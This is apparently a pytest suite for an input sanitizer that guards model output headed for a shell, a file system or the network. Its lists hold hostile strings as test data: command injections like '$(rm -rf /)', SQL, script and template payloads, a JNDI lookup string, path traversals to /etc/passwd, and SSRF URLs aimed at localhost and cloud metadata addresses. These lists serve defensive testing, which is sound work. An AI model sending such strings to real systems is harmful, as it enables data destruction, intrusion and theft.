"""Text, paths and URLs from a model that mean something to a shell, a file system or a network."""

from pathlib import PurePosixPath

import pytest

from mcp_chassis import sinks as security

InvalidInput = security.InvalidInput
sanitize_input = security.sanitize_input
validate_file_path = security.validate_file_path
validate_url = security.validate_url

TEXT_ATTACKS = [
    "$(rm -rf /)", "`id`", "; rm -rf /", "a; b", "a | b", "a && b", "a &&b", "a > /etc/passwd", "a < /etc/passwd",
    "${HOME}", "$HOME", "%PATH%", "%0a", "\\x41", "a\\", "!!", "{a,b}", "[a]", "*", "?(a)", "~root", "^M", "a=b",
    "line\nbreak", "carriage\rreturn", "tab\tstop", "nul\x00byte", "bell\x07", "\x1b[2J", "delete\x7f", "\x85",
    "\x9b", "--help", "-rf", "\u2010-o", "\u2013rf", "\u2014", "\u2212rf", "\uff0dv", "\ufe63v",
    "<script>alert(1)</script>", "<img src=x>", "a>b", '"', "' OR '1'='1", '"; DROP TABLE users', "{}{}", "a}b",
    "{" + "{7*7}" + "}", "{" + "% include %}", "#{7*7}", "${jndi:ldap://evil.example}", "../../etc/passwd",
    "/etc/passwd", "a/", "//evil.example", "C:\\Windows", "file:///etc/passwd", "http://evil.example",
    "right\u202eleft", "isolate\u2066", "zero\u200bwidth", "\ufeffmark", "soft\u00adhyphen", "line\u2028",
    "par\u2029", "\ud800", "\U000e0041tag", "\ue000", "\U000f0000", "\u200d", "a\u200c", "\u200db", "1\u200d2",
    "\ufff9", "\u037e", "\uff1b", "\uff5c", "\uff1e", "\uff04\uff08id\uff09", "\u2024\u2024/",
    "a\u2044b", "x & id", "x & touch pwned", "& whoami", "Smith & rm -r", "a &id", "\u2212rf", "a\u2212\u2212b",
]  # fmt: skip

NAMES = [
    "Hello World", "O'Brien", "Anne-Marie d’Arc", "Dr. Jan van 't Hoff (Jr.)", "José Ñáñez", "Łukasz Żółć",
    "Šárka Říha", "Ğülşah Çiçek", "Þórður Æ", "Søren Ångström", "Zoë Müller-Groß", "Ștefan Țăran",
    "Αθηνά Παπαδοπούλου", "Юлия Щёкина", "Ігор Їжак", "Ђорђе Његош", "محمد علی", "می‌خواهم", "فاطمة الزهراء",
    "שרה כהן", 'צה"ל', "ג׳ורג׳", "राम कुमार", "श्रीमती", "রবীন্দ্রনাথ ঠাকুর", "தமிழ்", "తెలుగు", "ಕನ್ನಡ", "മലയാളം",
    "ගුණවර්ධන", "ප්‍රියන්ත", "สมชาย ใจดี", "ສົມພອນ", "မောင်အောင်", "ភាសាខ្មែរ", "བསྟན་འཛིན", "王小明", "王・小明", "田中　太郎",
    "さくらモモコ", "김철수", "Nguyễn Thị Ánh", "አበበ በቀለ", "Գևորգ", "გიორგი", "Wanjikũ Ng'ang'a", "ʻIolani Kealoha",
    "AT&T", "Smith & Sons", "Marks & Spencer",
    "Col·lectiu", "M&M's", "Nº 5", "№ 7", "c/o Müller", "5/2 Main St. #4", "221B Baker Street, London NW1 6XE",
    "〒100-0001 東京都千代田区", "anna@example.org", "Room: 7_b", "C++",
]  # fmt: skip

PATH_ATTACKS = [
    "", ".", "..", "../a", "a/../b", "a/..", "./a", "a//b", "a/", "/etc/passwd", "//host/share", "\\\\host\\share",
    "a\\b", "..\\a", "C:\\a", "C:a", "c:/a", "a:stream", "a.txt::$DATA", "~", "~/a", "~root/a", "a/~b", "nul\x00",
    "a\nb", "a\x7f", "a\x85b", "con", "CON", "a/nul.txt", "Aux.tar.gz", "COM1", "com¹", "LPT9.log", "conin$", "prn ",
    "a.", "a /b", " a", "a. ", "...", "a*", "a?", "a|b", 'a"b', "a<b", "a>b", "\ud800", "a/\udcff", "%2e%2e/a:b",
    "a" * 256, "a/" * 200,
]  # fmt: skip

PATHS = [
    "a", "a.txt", "notes/2026/july.md", ".hidden", "a..b", "..a", "a b/c d", "${HOME}", "résumé.pdf",
    "日本語/メモ.txt", "console.log", "com10", "nulls/auxiliary.md", "comma,semi;colon", "a" * 255, "-rf", "$(id)",
    "ملاحظات/يوم",
]  # fmt: skip

URL_ATTACKS = [
    "", "example.org", "//example.org/", "http://example.org/", "ftp://example.org/", "file:///etc/passwd",
    "javascript:alert(1)", "data:text/html,a", "gopher://example.org/", "HTTPS:example.org", "https:///a", "https://",
    "https://?a", "https:\\\\example.org", "https://user@example.org/", "https://user:pass@example.org/",
    "https://example.org@127.0.0.1/", "https://example.org:0/", "https://example.org:99999/",
    "https://example.org:a/", "https://localhost/", "https://LOCALHOST./", "https://a.localhost/",
    "https://intranet/", "https://router.local/", "https://db.internal/", "https://metadata.google.internal/",
    "https://localhost.localdomain/", "https://metadata.goog/", "https://a.metadata.goog/", "https://nas.lan/",
    "https://nas.home/", "https://wiki.corp/", "https://wiki.intranet/", "https://db.private/",
    "https://kubernetes.default.svc/", "https://db.service.consul/",
    "https://a.onion/", "https://127.0.0.1/", "https://127.1/", "https://2130706433/", "https://0x7f.1/",
    "https://0x7f000001/", "https://0177.0.0.1/", "https://0/", "https://0.0.0.0/", "https://10.0.0.1/",
    "https://172.16.0.1/", "https://192.168.1.1/", "https://169.254.169.254/", "https://100.64.0.1/",
    "https://224.0.0.1/", "https://255.255.255.255/", "https://192.0.2.1/", "https://1.2.3.4.5/", "https://1.2.3/",
    "https://[::1]/", "https://[::]/", "https://[::ffff:127.0.0.1]/", "https://[::ffff:7f00:1]/",
    "https://[fe80::1]/", "https://[fe80::1%25eth0]/", "https://[fc00::1]/", "https://[ff02::1]/",
    "https://[2001:db8::1]/", "https://[::1", "https://exa mple.org/", "https://example.org/\n",
    "https://example.org/\r\nHost: evil", "\thttps://example.org/", "https://example.org\\@evil.example/",
    "https://ex\u0430mple.org/", "https://example.org/\u2028", "https://example。org/", "https://１２７.0.0.1/",
    "https://-a.example.org/", "https://a..example.org/", "https://" + "a" * 64 + ".org/", "https://a%2eb.org/",
    "https://example.org/<a>", "https://example.org/" + "a" * 2048,
]  # fmt: skip

EMBEDDED = [
    "https://168.63.129.16/", "https://[64:ff9b::a9fe:a9fe]/", "https://[2002:7f00:1::]/", "https://[::127.0.0.1]/",
    "https://[fec0::1]/", "https://[3fff::1]/",
]  # fmt: skip

URLS = [
    "https://example.org", "https://example.org/", "https://8.8.8.8/",
    "https://EXAMPLE.ORG/", "https://xn--mnchen-3ya.de/", "https://a_b.example.org/",
    "https://[2606:4700:4700::1111]/", "https://1and1.com/", "https://home.example.org/", "https://lan.com/",
]  # fmt: skip


@pytest.mark.parametrize("attack", TEXT_ATTACKS, ids=ascii)
def test_text_for_a_shell_or_a_page_is_refused(attack: str) -> None:
    for text in (attack, f"World {attack}" if attack[0] not in "-\u2010\u2013\u2014\u2212\uff0d\ufe63/" else attack):
        with pytest.raises(InvalidInput) as refusal:
            sanitize_input(text)
        assert len(attack) < 3 or attack not in str(refusal.value)


@pytest.mark.parametrize("name", NAMES)
def test_real_names_and_addresses_are_not_mutilated(name: str) -> None:
    once = sanitize_input(name)
    assert once == name
    assert sanitize_input(once) == once


def test_text_is_bounded() -> None:
    assert sanitize_input("a" * 1000) == "a" * 1000
    with pytest.raises(InvalidInput):
        sanitize_input("a" * 1001)
    with pytest.raises(InvalidInput):
        sanitize_input("\u0390" * 20, max_length=10)


@pytest.mark.parametrize("attack", PATH_ATTACKS, ids=ascii)
def test_a_path_that_leaves_its_directory_on_any_system_is_refused(attack: str) -> None:
    with pytest.raises(InvalidInput) as refusal:
        validate_file_path(attack)
    assert len(attack) < 9 or attack not in str(refusal.value)


@pytest.mark.parametrize("path", PATHS)
def test_real_paths_are_not_changed(path: str) -> None:
    once = validate_file_path(path)
    assert once == PurePosixPath(path)
    assert str(validate_file_path(str(once))) == path


@pytest.mark.parametrize("attack", [*URL_ATTACKS, *EMBEDDED], ids=ascii)
def test_a_url_to_this_machine_or_this_network_is_refused(attack: str) -> None:
    with pytest.raises(InvalidInput) as refusal:
        validate_url(attack)
    assert len(attack) < 9 or attack not in str(refusal.value)


@pytest.mark.parametrize("url", URLS)
def test_real_urls_are_not_changed(url: str) -> None:
    assert validate_url(url) == url
    assert validate_url(validate_url(url)) == url
